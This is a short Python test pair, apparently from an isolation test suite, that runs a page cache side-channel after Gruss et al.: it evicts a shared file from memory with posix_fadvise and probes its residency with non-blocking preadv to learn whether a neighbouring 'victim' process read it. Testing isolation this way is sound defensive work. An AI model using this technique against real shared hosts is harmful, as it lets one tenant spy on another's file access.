# Learns which files of the image a neighbour reads: makes the kernel forget one, and sees that it is in memory again.
# source: Gruss et al., Page Cache Attacks, CCS 2019; posix_fadvise(2), preadv2(2)
# control: host
# kind: pair
import os
import time

from attempts import attempt

descriptor = os.open(os.__file__, os.O_RDONLY)


def is_in_memory():
    try:
        return os.preadv(descriptor, [bytearray(1)], 0, os.RWF_NOWAIT) == 1
    except BlockingIOError:
        return False


def watch():
    for _ in range(200):
        os.posix_fadvise(descriptor, 0, 0, os.POSIX_FADV_DONTNEED)
        if not is_in_memory():
            break
    else:
        raise OSError(11, "it stays in memory")
    time.sleep(0.3)
    if not is_in_memory():
        raise OSError(11, "nothing was seen")


attempt("see it read a file", watch)

# === victim
import os
import time

print('ready', flush=True)
end = time.monotonic() + 2
while time.monotonic() < end:
    open(os.__file__, "rb").read(1)
    time.sleep(0.05)
